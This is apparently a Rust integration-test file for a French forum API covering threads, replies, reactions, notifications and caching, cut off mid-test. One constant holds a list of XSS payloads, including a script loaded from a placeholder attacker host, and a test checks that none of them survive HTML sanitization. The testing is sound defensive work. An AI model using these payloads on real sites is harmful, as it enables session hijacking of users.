//! Discussions over HTTP: categories, tags, threads, replies, revisions, soft deletion, reactions,
//! accepted answers, subscriptions and notifications, Idempotency-Key, ETag, XSS, query counts.

use reqwest::Method;
use serde_json::{Value, json};

use crate::support::{TestApp, category, category_named, id, json, problem, reply, tag, thread};

#[tokio::test]
async fn categories_are_admin_managed_ordered_and_nest_one_level() {
    let app = TestApp::spawn();
    let admin = app.admin("admin_cat").await;
    let member = app.member("member_cat").await;
    let resp = app
        .authed(Method::POST, "/api/v1/categories", &member)
        .json(&json!({"slug": "forets", "name": "Forêts"}))
        .send()
        .await
        .unwrap();
    problem(resp, 403).await;
    for (slug, pos) in [("forets", 2), ("annonces", 0), ("adresses", 1)] {
        let resp = app
            .authed(Method::POST, "/api/v1/categories", &admin)
            .json(&json!({"slug": slug, "name": slug, "position": pos}))
            .send()
            .await
            .unwrap();
        assert_eq!(resp.status(), 201);
    }
    let child = app
        .authed(Method::POST, "/api/v1/categories", &admin)
        .json(&json!({"slug": "haies", "name": "Haies", "parent": "forets"}))
        .send()
        .await
        .unwrap();
    let (_, child) = json(child).await;
    assert_eq!(child["parent"], "forets");
    let resp = app
        .authed(Method::POST, "/api/v1/categories", &admin)
        .json(&json!({"slug": "bocage", "name": "Bocage", "parent": "haies"}))
        .send()
        .await
        .unwrap();
    problem(resp, 422).await;
    let resp = app
        .authed(Method::POST, "/api/v1/categories", &admin)
        .json(&json!({"slug": "forets", "name": "Encore"}))
        .send()
        .await
        .unwrap();
    problem(resp, 409).await;
    let resp = app
        .authed(Method::PATCH, "/api/v1/categories/forets", &admin)
        .json(&json!({"name": "Forêts et haies", "color": "#00ff00"}))
        .send()
        .await
        .unwrap();
    let (status, updated) = json(resp).await;
    assert_eq!(
        (status, updated["name"].as_str()),
        (200, Some("Forêts et haies"))
    );
    let (_, list) = json(app.get("/api/v1/categories").await).await;
    assert!(list["next_cursor"].is_null(), "one page: {list}");
    let slugs: Vec<&str> = list["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| c["slug"].as_str().unwrap())
        .collect();
    // `defis` (position 5) is the challenges' category, which a migration makes.
    assert_eq!(
        slugs,
        ["annonces", "haies", "adresses", "forets", "defis"],
        "by position, then name"
    );
}

#[tokio::test]
async fn threads_replies_counters_and_staff_only_categories() {
    let app = TestApp::spawn();
    let admin = app.admin("admin_thr").await;
    let anne = app.member("anne_thr").await;
    let bob = app.member("bob_thr").await;
    category(&app, &admin, "forets", "everyone").await;
    category(&app, &admin, "annonces", "staff").await;

    let resp = app
        .authed(Method::POST, "/api/v1/threads", &anne)
        .json(&json!({"category": "annonces", "title": "Une annonce", "body": "Bonjour"}))
        .send()
        .await
        .unwrap();
    problem(resp, 403).await;
    thread(
        &app,
        &admin,
        "annonces",
        "Lancement de l'appel à communs",
        "Bienvenue !",
    )
    .await;

    let resp = app
        .authed(Method::POST, "/api/v1/threads", &anne)
        .json(&json!({"category": "forets", "title": "Court", "body": ""}))
        .send()
        .await
        .unwrap();
    let body = problem(resp, 422).await;
    assert_eq!(body["errors"].as_array().unwrap().len(), 1, "{body}");
    let resp = app
        .authed(Method::POST, "/api/v1/threads", &anne)
        .json(&json!({"category": "forets", "title": "Un bon titre", "body": "x".repeat(70_000)}))
        .send()
        .await
        .unwrap();
    problem(resp, 422).await;
    let resp = app
        .authed(Method::POST, "/api/v1/threads", &anne)
        .json(&json!({"category": "forets", "title": "Un bon titre", "body": "x".repeat(300_000)}))
        .send()
        .await
        .unwrap();
    problem(resp, 413).await;

    let t = thread(
        &app,
        &anne,
        "forets",
        "Cartographier les haies bocagères",
        "Qui a des **données** ?",
    )
    .await;
    assert_eq!(t["opening_post"]["number"], 1);
    assert_eq!(
        t["opening_post"]["body_html"],
        "<p>Qui a des <strong>données</strong> ?</p>\n"
    );
    assert_eq!(t["reply_count"], 0);
    assert_eq!(t["participant_count"], 1);
    let p2 = reply(
        &app,
        &bob,
        &t,
        "Moi, en Bretagne.",
        Some(&t["opening_post"]),
    )
    .await;
    assert_eq!(p2["number"], 2);
    let p3 = reply(&app, &anne, &t, "Merci !", Some(&p2)).await;
    assert_eq!(p3["number"], 3);
    let (_, t2) = json(app.get(&format!("/api/v1/threads/{}", id(&t))).await).await;
    assert_eq!(t2["reply_count"], 2);
    assert_eq!(t2["participant_count"], 2);
    assert_eq!(t2["last_poster"]["username"], "anne_thr");
    let (_, cats) = json(app.get("/api/v1/categories").await).await;
    let forets = cats["items"]
        .as_array()
        .unwrap()
        .iter()
        .find(|c| c["slug"] == "forets")
        .unwrap();
    assert_eq!(
        (
            forets["thread_count"].as_i64(),
            forets["post_count"].as_i64()
        ),
        (Some(1), Some(3))
    );
    let (_, profile) = json(app.get("/api/v1/users/bob_thr").await).await;
    assert_eq!(profile["reply_count"], 1);

    // Replies come in order, paginated.
    let (_, page) = json(
        app.get(&format!("/api/v1/threads/{}/posts?limit=1", id(&t)))
            .await,
    )
    .await;
    assert_eq!(page["items"][0]["number"], 2);
    let cursor = page["next_cursor"].as_str().unwrap();
    let (_, page) = json(
        app.get(&format!(
            "/api/v1/threads/{}/posts?limit=1&cursor={cursor}",
            id(&t)
        ))
        .await,
    )
    .await;
    assert_eq!(page["items"][0]["number"], 3);
    assert!(page["next_cursor"].is_null());

    // reply_to must be a post of the same thread.
    let other = thread(
        &app,
        &bob,
        "forets",
        "Un autre sujet sur les forêts",
        "Texte",
    )
    .await;
    let resp = app
        .authed(
            Method::POST,
            &format!("/api/v1/threads/{}/posts", id(&t)),
            &bob,
        )
        .json(&json!({"body": "hors sujet", "reply_to": other["opening_post"]["id"]}))
        .send()
        .await
        .unwrap();
    problem(resp, 422).await;
    problem(
        app.authed(
            Method::POST,
            &format!("/api/v1/threads/{}/posts", uuid::Uuid::now_v7()),
            &bob,
        )
        .json(&json!({"body": "?"}))
        .send()
        .await
        .unwrap(),
        404,
    )
    .await;
}

#[tokio::test]
async fn edits_keep_revisions_and_deletion_is_soft() {
    let app = TestApp::spawn();
    let admin = app.admin("admin_ed").await;
    let anne = app.member("anne_ed").await;
    let bob = app.member("bob_ed").await;
    category(&app, &admin, "adresses", "everyone").await;
    let t = thread(
        &app,
        &anne,
        "adresses",
        "La Base Adresse Nationale",
        "Version 1",
    )
    .await;
    let post_path = format!("/api/v1/posts/{}", id(&t["opening_post"]));

    let resp = app
        .authed(Method::PATCH, &post_path, &bob)
        .json(&json!({"body": "pirate"}))
        .send()
        .await
        .unwrap();
    problem(resp, 403).await;
    let resp = app
        .authed(Method::PATCH, &post_path, &anne)
        .json(&json!({"body": "Version 2"}))
        .send()
        .await
        .unwrap();
    let (_, edited) = json(resp).await;
    assert_eq!(edited["body"], "Version 2");
    assert!(edited["edited_at"].is_string());
    app.authed(Method::PATCH, &post_path, &admin)
        .json(&json!({"body": "Version 3"}))
        .send()
        .await
        .unwrap();
    let (_, revs) = json(app.get(&format!("{post_path}/revisions")).await).await;
    assert!(revs["next_cursor"].is_null());
    let revs = revs["items"].as_array().unwrap();
    assert_eq!(revs.len(), 2);
    assert_eq!(revs[0]["previous_body"], "Version 1");
    assert_eq!(revs[0]["editor"]["username"], "anne_ed");
    assert_eq!(revs[1]["previous_body"], "Version 2");
    assert_eq!(revs[1]["editor"]["username"], "admin_ed");

    let r = reply(&app, &bob, &t, "Un message regretté", None).await;
    let r_path = format!("/api/v1/posts/{}", id(&r));
    problem(
        app.authed(Method::DELETE, &r_path, &anne)
            .send()
            .await
            .unwrap(),
        403,
    )
    .await;
    assert_eq!(
        app.authed(Method::DELETE, &r_path, &bob)
            .send()
            .await
            .unwrap()
            .status(),
        204
    );
    let (_, seen) = json(app.get(&r_path).await).await;
    assert_eq!(
        (
            seen["deleted"].as_bool(),
            seen["body"].as_str(),
            seen["body_html"].as_str()
        ),
        (Some(true), Some(""), Some(""))
    );
    assert_eq!(seen["number"], 2, "it stays in place");
    let (_, as_mod) = json(
        app.authed(Method::GET, &r_path, &admin)
            .send()
            .await
            .unwrap(),
    )
    .await;
    assert_eq!(
        as_mod["body"], "Un message regretté",
        "moderators still see it"
    );
    let resp = app
        .authed(Method::PATCH, &r_path, &bob)
        .json(&json!({"body": "retour"}))
        .send()
        .await
        .unwrap();
    problem(resp, 409).await;
}

#[tokio::test]
async fn reactions_are_idempotent_and_counted_per_kind() {
    let app = TestApp::spawn();
    let admin = app.admin("admin_re").await;
    let anne = app.member("anne_re").await;
    let bob = app.member("bob_re").await;
    category(&app, &admin, "imagerie", "everyone").await;
    let t = thread(
        &app,
        &anne,
        "imagerie",
        "Imagerie immersive en ville",
        "Panoramas 360°",
    )
    .await;
    let base = format!("/api/v1/posts/{}/reactions", id(&t["opening_post"]));
    for _ in 0..2 {
        let resp = app
            .authed(Method::PUT, &format!("{base}/like"), &bob)
            .send()
            .await
            .unwrap();
        assert_eq!(resp.status(), 200);
    }
    app.authed(Method::PUT, &format!("{base}/thanks"), &bob)
        .send()
        .await
        .unwrap();
    let (_, post) = json(
        app.authed(Method::PUT, &format!("{base}/like"), &admin)
            .send()
            .await
            .unwrap(),
    )
    .await;
    assert_eq!(post["reactions"], json!({"like": 2, "thanks": 1}));
    assert_eq!(post["my_reactions"], json!(["like"]));
    for _ in 0..2 {
        let resp = app
            .authed(Method::DELETE, &format!("{base}/like"), &bob)
            .send()
            .await
            .unwrap();
        assert_eq!(resp.status(), 200);
    }
    let (_, post) = json(
        app.authed(
            Method::GET,
            &format!("/api/v1/posts/{}", id(&t["opening_post"])),
            &bob,
        )
        .send()
        .await
        .unwrap(),
    )
    .await;
    assert_eq!(post["reactions"], json!({"like": 1, "thanks": 1}));
    assert_eq!(post["my_reactions"], json!(["thanks"]));
    let (_, thread) = json(app.get(&format!("/api/v1/threads/{}", id(&t))).await).await;
    assert_eq!(thread["reaction_count"], 2);
    problem(
        app.authed(Method::PUT, &format!("{base}/hate"), &bob)
            .send()
            .await
            .unwrap(),
        404,
    )
    .await;
}

#[tokio::test]
async fn questions_get_an_accepted_answer() {
    let app = TestApp::spawn();
    let admin = app.admin("admin_qa").await;
    let anne = app.member("anne_qa").await;
    let bob = app.member("bob_qa").await;
    category(&app, &admin, "aide", "everyone").await;
    let resp = app
        .authed(Method::POST, "/api/v1/threads", &anne)
        .json(&json!({"category": "aide", "title": "Comment charger un GeoPackage ?", "body": "Avec QGIS ?", "kind": "question"}))
        .send()
        .await
        .unwrap();
    let (_, q) = json(resp).await;
    let answer = reply(&app, &bob, &q, "Glissez-déposez le fichier.", None).await;
    let path = format!("/api/v1/threads/{}/accepted-answer", id(&q));
    problem(
        app.authed(Method::POST, &path, &bob)
            .json(&json!({"post_id": id(&answer)}))
            .send()
            .await
            .unwrap(),
        403,
    )
    .await;
    problem(
        app.authed(Method::POST, &path, &anne)
            .json(&json!({"post_id": q["opening_post"]["id"]}))
            .send()
            .await
            .unwrap(),
        422,
    )
    .await;
    let (status, accepted) = json(
        app.authed(Method::POST, &path, &anne)
            .json(&json!({"post_id": id(&answer)}))
            .send()
            .await
            .unwrap(),
    )
    .await;
    assert_eq!(
        (status, accepted["accepted_answer"].as_str()),
        (200, Some(id(&answer)))
    );
    let (_, notes) = json(
        app.authed(Method::GET, "/api/v1/notifications", &bob)
            .send()
            .await
            .unwrap(),
    )
    .await;
    assert!(
        notes["items"]
            .as_array()
            .unwrap()
            .iter()
            .any(|n| n["kind"] == "accepted_answer")
    );

    let d = thread(&app, &anne, "aide", "Simple discussion", "Bavardons").await;
    let d_answer = reply(&app, &bob, &d, "Oui", None).await;
    let resp = app
        .authed(
            Method::POST,
            &format!("/api/v1/threads/{}/accepted-answer", id(&d)),
            &anne,
        )
        .json(&json!({"post_id": id(&d_answer)}))
        .send()
        .await
        .unwrap();
    problem(resp, 409).await;
}

#[tokio::test]
async fn lists_filter_sort_paginate_and_hide_muted_threads() {
    let app = TestApp::spawn();
    let admin = app.admin("admin_li").await;
    let anne = app.member("anne_li").await;
    let bob = app.member("bob_li").await;
    category(&app, &admin, "forets", "everyone").await;
    category(&app, &admin, "adresses", "everyone").await;
    tag(&app, &admin, "lidar").await;
    tag(&app, &admin, "open-data").await;
    let mut created = Vec::new();
    for i in 0..7 {
        let cat = if i % 2 == 0 { "forets" } else { "adresses" };
        let who = if i < 4 { &anne } else { &bob };
        let resp = app
            .authed(Method::POST, "/api/v1/threads", who)
            .json(
                &json!({"category": cat, "title": format!("Sujet numéro {i}"), "body": "…",
                          "tags": if i % 3 == 0 { json!(["lidar"]) } else { json!([]) }}),
            )
            .send()
            .await
            .unwrap();
        created.push(resp.json::<Value>().await.unwrap());
    }
    // Tags: unknown and more than five are refused.
    let resp = app
        .authed(Method::POST, "/api/v1/threads", &anne)
        .json(
            &json!({"category": "forets", "title": "Trop de tags", "body": "x", "tags": ["nope"]}),
        )
        .send()
        .await
        .unwrap();
    problem(resp, 422).await;

    // Walk `latest` with a cursor: newest first, every thread once.
    let mut seen = Vec::new();
    let mut path = "/api/v1/threads?limit=3".to_string();
    loop {
        let (status, page) = json(app.get(&path).await).await;
        assert_eq!(status, 200);
        seen.extend(
            page["items"]
                .as_array()
                .unwrap()
                .iter()
                .map(|t| t["title"].as_str().unwrap().to_string()),
        );
        match page["next_cursor"].as_str() {
            Some(c) => path = format!("/api/v1/threads?limit=3&cursor={c}"),
            None => break,
        }
    }
    let expected: Vec<String> = (0..7).rev().map(|i| format!("Sujet numéro {i}")).collect();
    assert_eq!(seen, expected);

    let titles = |v: &Value| -> Vec<String> {
        v["items"]
            .as_array()
            .unwrap()
            .iter()
            .map(|t| t["title"].as_str().unwrap().to_string())
            .collect()
    };
    let (_, forets) = json(app.get("/api/v1/threads?category=forets").await).await;
    assert_eq!(titles(&forets).len(), 4);
    let (_, lidar) = json(app.get("/api/v1/threads?tag=lidar").await).await;
    assert_eq!(
        titles(&lidar),
        ["Sujet numéro 6", "Sujet numéro 3", "Sujet numéro 0"]
    );
    let (_, by_bob) = json(app.get("/api/v1/threads?author=BOB_LI").await).await;
    assert_eq!(titles(&by_bob).len(), 3);

    // `active`: a reply brings a thread up; `top`: replies and reactions rank it.
    reply(&app, &bob, &created[1], "Je relance", None).await;
    let (_, active) = json(app.get("/api/v1/threads?sort=active&limit=1").await).await;
    assert_eq!(titles(&active), ["Sujet numéro 1"]);
    let (_, top) = json(app.get("/api/v1/threads?sort=top&limit=1").await).await;
    assert_eq!(titles(&top), ["Sujet numéro 1"]);
    let cursor = top["next_cursor"].as_str().unwrap();
    problem(
        app.get(&format!("/api/v1/threads?sort=latest&cursor={cursor}"))
            .await,
        422,
    )
    .await;

    // Muting: gone from that member's lists, still there for others.
    let muted = id(&created[6]);
    let resp = app
        .authed(
            Method::PUT,
            &format!("/api/v1/threads/{muted}/subscription"),
            &anne,
        )
        .json(&json!({"level": "muted"}))
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 200);
    let (_, mine) = json(
        app.authed(Method::GET, "/api/v1/threads?limit=100", &anne)
            .send()
            .await
            .unwrap(),
    )
    .await;
    assert!(
        !mine["items"]
            .as_array()
            .unwrap()
            .iter()
            .any(|t| t["id"] == muted)
    );
    assert_eq!(mine["items"].as_array().unwrap().len(), 6);
    let (_, theirs) = json(
        app.authed(Method::GET, "/api/v1/threads?limit=100", &bob)
            .send()
            .await
            .unwrap(),
    )
    .await;
    assert_eq!(theirs["items"].as_array().unwrap().len(), 7);
    app.authed(
        Method::PUT,
        "/api/v1/categories/adresses/subscription",
        &anne,
    )
    .json(&json!({"level": "muted"}))
    .send()
    .await
    .unwrap();
    let (_, mine) = json(
        app.authed(Method::GET, "/api/v1/threads?limit=100", &anne)
            .send()
            .await
            .unwrap(),
    )
    .await;
    assert_eq!(
        mine["items"].as_array().unwrap().len(),
        3,
        "forets only, minus the muted thread"
    );
}

#[tokio::test]
async fn notifications_follow_watch_levels() {
    let app = TestApp::spawn();
    let admin = app.admin("admin_no").await;
    let anne = app.member("anne_no").await;
    let bob = app.member("bob_no").await;
    let carl = app.member("carl_no").await;
    let dana = app.member("dana_no").await;
    category(&app, &admin, "forets", "everyone").await;
    // Dana watches the category: she hears of new threads and their replies.
    app.authed(Method::PUT, "/api/v1/categories/forets/subscription", &dana)
        .json(&json!({"level": "watching"}))
        .send()
        .await
        .unwrap();
    let t = thread(
        &app,
        &anne,
        "forets",
        "Inventaire des chênes",
        "Bonjour @carl_no et @nobody",
    )
    .await;
    // Carl sets the thread to normal: mentions and direct replies only.
    app.authed(
        Method::PUT,
        &format!("/api/v1/threads/{}/subscription", id(&t)),
        &carl,
    )
    .json(&json!({"level": "normal"}))
    .send()
    .await
    .unwrap();
    let p = reply(&app, &bob, &t, "Je participe.", Some(&t["opening_post"])).await;
    reply(&app, &anne, &t, "Super @bob_no, merci", Some(&p)).await;

    let kinds = |notes: &Value| -> Vec<String> {
        let mut k: Vec<String> = notes["items"]
            .as_array()
            .unwrap()
            .iter()
            .map(|n| n["kind"].as_str().unwrap().to_string())
            .collect();
        k.sort();
        k
    };
    let get = |who: &Value| app.authed(Method::GET, "/api/v1/notifications", who).send();
    // Watchers are notified by a job (the reply and direct notifications are in its transaction).
    app.worker().run_until_idle().unwrap();
    let (_, anne_n) = json(get(&anne).await.unwrap()).await;
    assert_eq!(
        kinds(&anne_n),
        ["reply"],
        "anne: bob replied to her (her own posts notify nobody)"
    );
    let (_, bob_n) = json(get(&bob).await.unwrap()).await;
    assert_eq!(
        kinds(&bob_n),
        ["reply"],
        "bob: anne replied to him and mentioned him: one notification"
    );
    let (_, carl_n) = json(get(&carl).await.unwrap()).await;
    assert_eq!(
        kinds(&carl_n),
        ["mention"],
        "carl: mentioned once; normal level, no watched replies"
    );
    let (_, dana_n) = json(get(&dana).await.unwrap()).await;
    assert_eq!(
        kinds(&dana_n),
        ["new_thread", "watched_reply", "watched_reply"]
    );
    assert_eq!(dana_n["unread_count"], 3);
    assert_eq!(
        dana_n["items"][0]["target"]["title"],
        "Inventaire des chênes"
    );
    assert_eq!(dana_n["items"][0]["actor"]["username"], "anne_no");

    // Muted: nothing more.
    app.authed(
        Method::PUT,
        &format!("/api/v1/threads/{}/subscription", id(&t)),
        &dana,
    )
    .json(&json!({"level": "muted"}))
    .send()
    .await
    .unwrap();
    reply(&app, &bob, &t, "Encore un message pour @dana_no", None).await;
    app.worker().run_until_idle().unwrap();
    let (_, dana_n) = json(get(&dana).await.unwrap()).await;
    assert_eq!(dana_n["unread_count"], 3);

    // Mark read: some, then all.
    let first = dana_n["items"][0]["id"].clone();
    let (_, left) = json(
        app.authed(Method::POST, "/api/v1/notifications/read", &dana)
            .json(&json!({"ids": [first]}))
            .send()
            .await
            .unwrap(),
    )
    .await;
    assert_eq!(left["unread_count"], 2);
    let (_, unread) = json(
        app.authed(Method::GET, "/api/v1/notifications?unread=true", &dana)
            .send()
            .await
            .unwrap(),
    )
    .await;
    assert_eq!(unread["items"].as_array().unwrap().len(), 2);
    let (_, left) = json(
        app.authed(Method::POST, "/api/v1/notifications/read", &dana)
            .json(&json!({"all": true}))
            .send()
            .await
            .unwrap(),
    )
    .await;
    assert_eq!(left["unread_count"], 0);
    problem(
        app.authed(Method::POST, "/api/v1/notifications/read", &dana)
            .json(&json!({}))
            .send()
            .await
            .unwrap(),
        422,
    )
    .await;
    // Over 100 ids is refused even with `all` (schemathesis: the document says at most 100).
    let many: Vec<String> = (0..101)
        .map(|_| first.as_str().unwrap().to_string())
        .collect();
    problem(
        app.authed(Method::POST, "/api/v1/notifications/read", &dana)
            .json(&json!({"all": true, "ids": many}))
            .send()
            .await
            .unwrap(),
        422,
    )
    .await;
}

#[tokio::test]
async fn idempotency_keys_replay_the_first_response() {
    let app = TestApp::spawn();
    let admin = app.admin("admin_id").await;
    let anne = app.member("anne_id").await;
    category(&app, &admin, "forets", "everyone").await;
    let body =
        json!({"category": "forets", "title": "Un seul fil, merci", "body": "Réseau instable"});
    let send = |key: &'static str, body: Value| {
        app.authed(Method::POST, "/api/v1/threads", &anne)
            .header("Idempotency-Key", key)
            .json(&body)
            .send()
    };
    let first = send("k-123", body.clone()).await.unwrap();
    assert_eq!(first.status(), 201);
    let location = first.headers()["location"].clone();
    let first: Value = first.json().await.unwrap();
    let again = send("k-123", body.clone()).await.unwrap();
    assert_eq!(again.status(), 201);
    assert_eq!(again.headers()["location"], location);
    let again: Value = again.json().await.unwrap();
    assert_eq!(again["id"], first["id"]);
    let (_, list) = json(app.get("/api/v1/threads").await).await;
    assert_eq!(list["items"].as_array().unwrap().len(), 1, "created once");
    let mut other = body.clone();
    other["title"] = json!("Un autre titre, même clé");
    problem(send("k-123", other).await.unwrap(), 422).await;

    // Replies too.
    let path = format!("/api/v1/threads/{}/posts", first["id"].as_str().unwrap());
    for _ in 0..3 {
        let resp = app
            .authed(Method::POST, &path, &anne)
            .header("Idempotency-Key", "r-1")
            .json(&json!({"body": "Une fois"}))
            .send()
            .await
            .unwrap();
        assert_eq!(resp.status(), 201);
    }
    let (_, t) = json(
        app.get(&format!(
            "/api/v1/threads/{}",
            first["id"].as_str().unwrap()
        ))
        .await,
    )
    .await;
    assert_eq!(t["reply_count"], 1);
}

#[tokio::test]
async fn thread_and_list_reads_answer_if_none_match_with_304() {
    let app = TestApp::spawn();
    let admin = app.admin("admin_et").await;
    category(&app, &admin, "forets", "everyone").await;
    let t = thread(&app, &admin, "forets", "Cache HTTP et forêts", "ETag").await;
    for path in [
        format!("/api/v1/threads/{}", id(&t)),
        "/api/v1/threads".to_string(),
    ] {
        let resp = app.get(&path).await;
        let etag = resp.headers()["etag"].to_str().unwrap().to_string();
        let resp = app
            .client
            .get(app.url(&path))
            .header("if-none-match", &etag)
            .send()
            .await
            .unwrap();
        assert_eq!(resp.status(), 304, "{path}");
        assert_eq!(resp.headers()["etag"].to_str().unwrap(), etag);
        reply(&app, &admin, &t, "Du nouveau", None).await;
        let resp = app
            .client
            .get(app.url(&path))
            .header("if-none-match", &etag)
            .send()
            .await
            .unwrap();
        assert_eq!(resp.status(), 200, "changed: {path}");
    }
}

/// Classic XSS payloads; none may survive into body_html.
const XSS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"javascript:alert(1)\">",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\"&#106;avascript:alert(1)\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "![x](javascript:alert(1))",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<p style=\"color:red\">styled</p>",
    "<style>body{display:none}</style>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<embed src=\"javascript:alert(1)\">",
    "<form action=\"javascript:alert(1)\"><button>go</button></form>",
    "<input onfocus=alert(1) autofocus>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<link rel=stylesheet href=\"javascript:alert(1)\">",
    "<base href=\"javascript:alert(1)//\">",
    "<marquee onstart=alert(1)>x</marquee>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<textarea><script>alert(1)</script></textarea>",
];

#[tokio::test]
async fn no_xss_payload_survives_in_body_html() {
    let app = TestApp::spawn();
    let admin = app.admin("admin_xss").await;
    let anne = app.member("anne_xss").await;
    category(&app, &admin, "forets", "everyone").await;
    let t = thread(
        &app,
        &anne,
        "forets",
        "Tests de sécurité",
        "ok [lien](https://ign.fr)",
    )
    .await;
    assert!(
        t["opening_post"]["body_html"]
            .as_str()
            .unwrap()
            .contains("rel=\"nofollow ugc noopener\"")
    );
    assert!(XSS.len() >= 30);
    for payload in XSS {
        let post = reply(&app, &anne, &t, payload, None).await;
        let html = post["body_html"].as_str().unwrap().to_lowercase();
        for bad in [
            "<script",
            "javascript:",
            "vbscript:",
            "data:",
            "onerror",
            "onload",
            "onfocus",
            "ontoggle",
            "onstart",
            "<iframe",
            "<object",
            "<embed",
            "<style",
            "style=",
            "<meta",
            "<link",
            "<base",
            "<form",
            "srcdoc",
        ] {
            assert!(!html.contains(bad), "{payload:?} left {bad:?} in {html:?}");
        }
        assert_eq!(post["body"], *payload, "the source is kept as written");
    }
}

#[tokio::test]
async fn reads_cost_one_statement_whatever_their_size() {
    let app = TestApp::spawn();
    let admin = app.admin("admin_qc").await;
    let anne = app.member("anne_qc").await;
    category(&app, &admin, "forets", "everyone").await;
    tag(&app, &admin, "lidar").await;
    let mut thread = String::new();
    for i in 0..30 {
        let (status, created) = json(
            app.authed(Method::POST, "/api/v1/threads", if i % 2 == 0 { &anne } else { &admin })
                .json(&json!({"category": "forets", "title": format!("Fil de test {i}"), "body": "corps", "tags": ["lidar"]}))
                .send()
                .await
                .unwrap(),
        )
        .await;
        assert_eq!(status, 201);
        thread = created["id"].as_str().unwrap().to_owned();
    }
    for i in 0..12 {
        let resp = app
            .authed(
                Method::POST,
                &format!("/api/v1/threads/{thread}/posts"),
                if i % 2 == 0 { &anne } else { &admin },
            )
            .json(&json!({"body": format!("Réponse {i}")}))
            .send()
            .await
            .unwrap();
        assert_eq!(resp.status(), 201);
    }
    // Statements a read costs, anonymous and as a member (who adds one: the session check).
    let cost = |path: String, as_member: bool| {
        let app = &app;
        let token = as_member.then(|| anne.clone());
        async move {
            let before = app.statements.get();
            let req = match &token {
                Some(t) => app.authed(Method::GET, &path, t),
                None => app.client.get(app.url(&path)),
            };
            let (status, body) = json(req.send().await.unwrap()).await;
            assert_eq!(status, 200, "{path}: {body}");
            (app.statements.get() - before, body)
        }
    };
    for limit in [2, 10, 30] {
        let (anonymous, page) = cost(format!("/api/v1/threads?limit={limit}"), false).await;
        let items = page["items"].as_array().unwrap();
        assert_eq!(items.len(), limit);
        assert_eq!(items[0]["tags"][0]["slug"], "lidar", "{page}");
        assert_eq!(items[0]["category"]["slug"], "forets");
        assert_eq!(items[0]["excerpt"], "corps");
        assert!(items[0].get("opening_post").is_none(), "{page}");
        assert_eq!(anonymous, 1, "thread list of {limit}, anonymous");
        let (member, _) = cost(format!("/api/v1/threads?limit={limit}"), true).await;
        assert_eq!(member, 2, "thread list of {limit}, as a member");
        let (replies, page) = cost(
            format!("/api/v1/threads/{thread}/posts?limit={limit}"),
            false,
        )
        .await;
        assert_eq!(page["items"].as_array().unwrap().len(), limit.min(12));
        assert_eq!(replies, 1, "replies page of {limit}");
    }
    let (read, body) = cost(format!("/api/v1/threads/{thread}"), false).await;
    assert_eq!(body["last_poster"]["username"], "admin_qc");
    assert_eq!(read, 1, "thread read");
}

#[tokio::test]
async fn export_has_the_members_discussions_and_erasure_keeps_content_anonymous() {
    let app = TestApp::spawn();
    let admin = app.admin("admin_gd").await;
    let anne = app.member("anne_gd").await;
    category(&app, &admin, "forets", "everyone").await;
    let t = thread(
        &app,
        &anne,
        "forets",
        "Mon fil à exporter",
        "Contenu d'origine",
    )
    .await;
    let r = reply(&app, &anne, &t, "Ma réponse", None).await;
    app.authed(
        Method::PUT,
        &format!("/api/v1/posts/{}/reactions/thanks", id(&r)),
        &anne,
    )
    .send()
    .await
    .unwrap();
    let (_, doc) = json(
        app.authed(Method::GET, "/api/v1/me/export", &anne)
            .send()
            .await
            .unwrap(),
    )
    .await;
    let d = &doc["discussions"];
    assert_eq!(d["threads"][0]["title"], "Mon fil à exporter");
    assert_eq!(d["posts"].as_array().unwrap().len(), 2);
    assert_eq!(d["posts"][1]["body"], "Ma réponse");
    assert_eq!(d["reactions"][0]["kind"], "thanks");
    assert_eq!(d["thread_subscriptions"][0]["level"], "watching");

    let resp = app
        .authed(Method::DELETE, "/api/v1/me", &anne)
        .json(&json!({"password": crate::support::PASSWORD}))
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 204);
    let (_, after) = json(app.get(&format!("/api/v1/threads/{}", id(&t))).await).await;
    assert!(
        after["author"]["username"]
            .as_str()
            .unwrap()
            .starts_with("anonyme-")
    );
    assert_eq!(
        after["opening_post"]["body"], "Contenu d'origine",
        "content stays"
    );
    assert_eq!(after["author"]["display_name"], "");
}

#[tokio::test]
async fn concurrent_replies_are_numbered_and_counted_once() {
    let app = TestApp::spawn();
    let admin = app.admin("admin_cc").await;
    let anne = app.member("anne_cc").await;
    let bob = app.member("bob_cc").await;
    category(&app, &admin, "forets", "everyone").await;
    let t = thread(&app, &admin, "forets", "Relevés simultanés", "Allez-y.").await;
    let path = format!("/api/v1/threads/{}/posts", id(&t));
    // Both members reply five times at once: the thread row lock orders them.
    let sends = (0..10).map(|i| {
        let who = if i % 2 == 0 { &anne } else { &bob };
        app.authed(Method::POST, &path, who)
            .json(&json!({"body": format!("Réponse {i}")}))
            .send()
    });
    let mut numbers = Vec::new();
    for resp in futures_util::future::join_all(sends).await {
        let (status, post) = json(resp.unwrap()).await;
        assert_eq!(status, 201, "{post}");
        numbers.push(post["number"].as_i64().unwrap());
    }
    numbers.sort();
    assert_eq!(numbers, (2..=11).collect::<Vec<_>>());
    let (_, t2) = json(app.get(&format!("/api/v1/threads/{}", id(&t))).await).await;
    assert_eq!(t2["reply_count"], 10);
